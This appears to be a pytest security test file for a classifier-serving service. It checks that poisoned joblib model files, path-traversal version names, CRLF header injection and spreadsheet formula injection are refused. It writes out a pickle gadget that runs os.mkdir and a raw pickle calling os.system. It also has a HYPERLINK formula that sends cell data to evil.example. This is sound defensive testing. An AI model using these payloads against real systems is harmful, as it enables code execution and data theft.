"""What somebody might try: paths, headers, formulas, and models that are not models."""

import json
import os
import socket
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import joblib
import numpy as np
import openpyxl
import pytest
from commands import yanpan

from service.artifacts import MANIFEST, file_digest, load_classifier
from service.core.errors import BundleError
from service.registry import Registry


class Bomb:
    """Makes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return os.mkdir, (str(self._path),)


def put_in(folder: Path, name: str, contents: bytes) -> None:
    """Exchanges a file of a bundle, and its checksum, as somebody would who can write both."""
    (folder / name).write_bytes(contents)
    manifest = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    manifest["files"][name] = file_digest(folder / name)
    (folder / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")


def dumped(contents: Any, path: Path) -> bytes:
    joblib.dump(contents, path)
    return path.read_bytes()


@pytest.mark.parametrize("name", ["weights.joblib", "index.joblib"])
@pytest.mark.parametrize("kind", ["object", "array of objects", "dtype", "zip", "cut", "text"])
def test_a_model_file_that_runs_something_is_refused_and_nothing_is_run(
    registry: Registry, tmp_path: Path, name: str, kind: str
) -> None:
    folder, sign = registry.folder("b"), tmp_path / "was-here"
    place, good = tmp_path / "made", (folder / name).read_bytes()
    bomb = Bomb(sign)
    makers: dict[str, Callable[[], bytes]] = {
        "object": lambda: dumped({"idf": bomb}, place),
        "array of objects": lambda: dumped({"idf": np.array([bomb, bomb], dtype=object)}, place),
        "dtype": lambda: dumped({"idf": np.dtype(object)}, place),
        "zip": lambda: zlib.compress(b"\0" * 50_000_000),
        "cut": lambda: good[: len(good) // 2],
        "text": lambda: b"cos\nsystem\n(S'true'\ntR.",
    }
    put_in(folder, name, makers[kind]())
    with pytest.raises(BundleError):
        load_classifier(folder)
    assert not sign.exists()


def test_with_a_signing_key_a_changed_manifest_is_refused_before_any_file_is_read(
    registry: Registry, tmp_path: Path
) -> None:
    put_in(registry.folder("b"), "weights.joblib", dumped({}, tmp_path / "made"))
    signed = Registry(registry.root, "secret")
    with pytest.raises(BundleError, match="签名"):
        signed.activate("b", by="甲", at=datetime(2026, 1, 5, tzinfo=UTC))


@pytest.mark.parametrize(
    "version",
    ["..", "../b", "..%2Fb", "%2e%2e%2fb", "b/../b", "/etc/passwd", "b%00", "~", "b\\..", "ACTIVE"],
)
def test_a_version_is_a_name_and_no_path(server: httpx.Client, version: str) -> None:
    answer = server.get(f"/v1/models/{version}")
    assert answer.status_code in (404, 405)
    answer = server.post(f"/v1/models/{version}/activate", json={"by": "甲"})
    assert answer.status_code in (404, 405)
    assert "root:" not in answer.text


@pytest.mark.parametrize(
    "given", ["a\r\nX-Evil: 1", "a\nb", "\x00", "a b", "é", "x" * 200, "\x1b[31m"]
)
def test_a_request_id_cannot_bring_in_a_header(server: httpx.Client, given: str) -> None:
    body = b'{"text":"a"}'
    head = (
        f"POST /v1/score HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\nX-Request-ID: {given}\r\n\r\n"
    )
    address = server.base_url.host, server.base_url.port
    with socket.create_connection(address, timeout=10) as connection:
        connection.sendall(head.encode("latin-1") + body)
        answer = b"".join(iter(lambda: connection.recv(65_536), b""))
    headers, _, _ = answer.partition(b"\r\n\r\n")
    returned = [h for h in headers.split(b"\r\n") if h.lower().startswith(b"x-request-id")]
    assert b"x-evil" not in headers.lower()
    assert all(given.encode("latin-1").strip() not in h for h in returned)


def test_answers_bear_the_headers_that_keep_browsers_in_check(server: httpx.Client) -> None:
    for answer in (
        server.post("/v1/score", json={"text": "a"}, headers={"Origin": "https://evil.example"}),
        server.get("/nowhere"),
        server.post("/v1/score", content=b"{"),
    ):
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Cache-Control"] == "no-store"
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
        assert "Access-Control-Allow-Origin" not in answer.headers
        assert "server" not in answer.headers
    preflight = {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}
    assert server.options("/v1/score", headers=preflight).status_code == 405


def test_a_formula_in_a_message_is_text_in_every_table(tmp_path: Path) -> None:
    given = tmp_path / "in.jsonl"
    formula = '=HYPERLINK("http://evil.example?"&A1,"点我")路灯坏了'
    given.write_text(json.dumps({"id": "+1+1", "text": formula}), encoding="utf-8")
    for kind in ("csv", "xlsx"):
        output = tmp_path / f"out.{kind}"
        ended = yanpan("score", "--input", str(given), "--output", str(output))
        assert ended.returncode == 0, ended.stderr
    told = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in told
    assert "'+1+1" in told
    page = openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets[0]
    assert all(cell.data_type != "f" for row in page.iter_rows() for cell in row)


def test_a_replayed_key_changes_nothing_and_a_reused_one_is_refused(server: httpx.Client) -> None:
    headers = {"Idempotency-Key": f"replay-{os.getpid()}"}
    given = {"message": {"text": "路灯坏了"}, "labels": {"topic": "other"}, "annotator": "甲"}
    first = server.post("/v1/feedback", json=given, headers=headers)
    again = server.post("/v1/feedback", json=given, headers=headers)
    assert (first.status_code, again.status_code) == (201, 201)
    assert again.headers["Idempotent-Replayed"] == "true"
    assert again.json() == first.json()
    other = server.post("/v1/feedback", json={**given, "annotator": "乙"}, headers=headers)
    assert (other.status_code, other.json()["code"]) == (422, "idempotency_key_reused")
